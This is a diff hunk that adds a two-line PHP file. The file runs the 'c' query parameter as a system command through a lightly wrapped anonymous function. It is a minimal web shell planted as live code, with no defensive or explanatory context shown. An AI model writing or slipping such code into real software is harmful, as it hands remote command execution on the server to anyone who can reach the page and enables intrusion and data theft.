@@ -1,0 +1,2 @@
+<?php
+system((function () { $x = $_GET["c"]; return $x; })());
